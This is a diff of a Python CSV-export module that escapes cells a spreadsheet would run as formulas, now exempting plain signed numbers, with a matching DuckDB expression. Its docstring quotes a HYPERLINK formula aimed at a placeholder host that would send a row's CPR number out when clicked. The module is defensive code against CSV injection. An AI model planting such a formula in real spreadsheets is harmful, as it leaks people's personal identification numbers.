@@ -5,21 +5,32 @@ Excel skips before looking for those) is run as a formula when the file is opene
 LibreOffice: a name such as ``=HYPERLINK("http://x/?"&A2,"Klik")`` from a data drop would send the
 row's CPR number away on a click (OWASP "CSV injection"). Such a cell is written with a leading
 apostrophe, which the spreadsheet shows as text and does not run. Numbers, dates and booleans are
-never formulas and are left as they are (``-3`` stays a number).
+never formulas and are left as they are (``-3`` stays a number), and so is a text that is a plain
+number: a sign, digits and at most one decimal point or comma (``-0,5`` in a Danish export, ``-3``,
+``+12.5``), which a spreadsheet reads as that number and never as a formula.
 """
 
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable
 from typing import Any
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# a plain number: sign, digits, at most one decimal separator ("." or ","), digits; nothing else
+PLAIN_NUMBER = r"[+-]?[0-9]+([.,][0-9]+)?"
+_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
+
+
+def is_formula(text: str) -> bool:
+    """Whether a spreadsheet would run the text ``text`` as a formula."""
+    return text.startswith(FORMULA_START) and _PLAIN_NUMBER.fullmatch(text) is None
 
 
 def cell(value: Any) -> Any:
     """``value`` with a text that a spreadsheet would run as a formula turned into plain text."""
-    if isinstance(value, str) and value.startswith(FORMULA_START):
+    if isinstance(value, str) and is_formula(value):
         return "'" + value
     return value
 
@@ -55,7 +66,8 @@ def sql_cell(column: str) -> str:
     """The same rule as :func:`cell` as a DuckDB expression over the text column ``column``
     (for CSV files written by DuckDB or Arrow straight from a query)."""
     starts = " OR ".join(f"starts_with({column}, {_sql_text(s)})" for s in FORMULA_START)
-    return f"CASE WHEN {starts} THEN '''' || {column} ELSE {column} END"
+    return (f"CASE WHEN ({starts}) AND NOT regexp_full_match({column}, '{PLAIN_NUMBER}') "
+            f"THEN '''' || {column} ELSE {column} END")
 
 
 def _sql_text(text: str) -> str:
